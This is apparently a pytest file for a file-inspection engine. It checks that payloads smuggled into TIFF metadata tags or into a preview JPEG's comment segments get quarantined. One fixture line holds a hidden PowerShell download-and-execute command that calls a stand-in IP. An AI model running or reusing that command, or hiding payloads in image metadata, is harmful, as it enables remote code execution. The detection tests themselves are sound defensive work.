"""Every TIFF value stored outside its entry is judged (agent/inspect/tiff.py `_walk_ifd`).

TIFF 6.0 §2: an entry is tag, type, count and a value (or the offset of a value longer than
4 bytes, 8 in BigTIFF). Besides the text and private tags, any ASCII value (DocumentName
269, PageName 285, DateTime 306...) and any value of a public tag the walker does not know
is one a writer chooses; only the offsets the walk follows (IFD pointers, strip and tile
offsets and byte counts) are not values to judge. A raw program is found anywhere by the
whole-file search for program headers; an encoded program or a script line only in a
region a judge is given. A clean JPEG in bytes no IFD references is accepted as a camera
preview (tiff_gaps); its own segments are judged like any JPEG's.
"""

from __future__ import annotations

import base64
import io
import struct

import pytest
from PIL import TiffImagePlugin

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests import jpeg_samples as js
from tests.format_samples import gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
ASCII, UNDEFINED = 2, 7  # TIFF field types


def _tiff(tag: int, field_type: int, value: object) -> bytes:
    info = TiffImagePlugin.ImageFileDirectory_v2()
    info[tag] = value
    info.tagtype[tag] = field_type
    out = io.BytesIO()
    gradient((64, 48)).save(out, "TIFF", tiffinfo=info)
    return out.getvalue()


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("tag", [269, 285, 306, 337], ids=lambda tag: f"tag{tag}")
def test_a_payload_in_any_ascii_value_is_quarantined(tag: int, kind: str) -> None:
    report = inspect_bytes("scan.tif", _tiff(tag, ASCII, PAYLOADS[kind].decode()))
    assert report.verdict.value == "quarantine"
    assert "tiff.payload_in_metadata" in {f.code for f in report.findings}


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_an_unknown_public_tag_is_quarantined(kind: str) -> None:
    report = inspect_bytes("scan.tif", _tiff(1000, UNDEFINED, PAYLOADS[kind]))
    assert report.verdict.value == "quarantine"
    assert "tiff.payload_in_metadata" in {f.code for f in report.findings}


def test_harmless_ascii_and_unknown_values_stay_clean() -> None:
    assert inspect_bytes("scan.tif", _tiff(269, ASCII, "ward 3 / scanner 2")).verdict.value == (
        "clean"
    )
    assert inspect_bytes("scan.tif", _tiff(285, ASCII, "page 1 of 12")).verdict.value == "clean"
    assert inspect_bytes("scan.tif", _tiff(1000, UNDEFINED, bytes(range(256)))).verdict.value == (
        "clean"
    )


def test_a_colour_map_is_judged_and_a_real_one_stays_clean() -> None:
    """ColorMap (320): 3 x 2**BitsPerSample SHORTs, Pillow writes one for palette images."""
    out = io.BytesIO()
    gradient((64, 48)).convert("P").save(out, "TIFF")
    assert inspect_bytes("scan.tif", out.getvalue()).verdict.value == "clean"


# --- an unreferenced preview JPEG ---------------------------------------------------------

STRIP = bytes(range(64))  # one 8x8 8-bit grey strip


def _tiff_with_gap(gap: bytes) -> bytes:
    """Header, the strip at 8, `gap` (no IFD references it), then the IFD (word-aligned).

    Entries (tag, SHORT 3 / LONG 4, count 1, value): width, height, bits, no compression,
    BlackIsZero, strip offset, one sample, rows per strip, strip byte count."""
    ifd_at = 8 + len(STRIP) + len(gap)
    ifd_at += ifd_at & 1
    entries = ((256, 3, 8), (257, 3, 8), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8),
               (277, 3, 1), (278, 3, 8), (279, 4, len(STRIP)))  # fmt: skip
    ifd = struct.pack("<H", len(entries))
    ifd += b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
    head = b"II*\x00" + struct.pack("<I", ifd_at) + STRIP + gap
    return head.ljust(ifd_at, b"\x00") + ifd + bytes(4)


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("marker", [0xFE, 0xE9], ids=["COM", "APP9"])
def test_a_payload_in_an_unreferenced_preview_jpegs_segment_is_quarantined(
    marker: int, kind: str
) -> None:
    """A clean JPEG in a gap is accepted as a camera preview; its segments are still judged."""
    preview = js.insert_segments(js.photo(seed=5), js.segment(marker, PAYLOADS[kind]))
    report = inspect_bytes("scan.tif", _tiff_with_gap(preview))
    assert report.verdict.value == "quarantine"
    assert "tiff.payload_in_metadata" in {f.code for f in report.findings}


def test_an_unreferenced_preview_jpeg_stays_clean() -> None:
    assert inspect_bytes("scan.tif", _tiff_with_gap(js.photo(seed=5))).verdict.value == "clean"
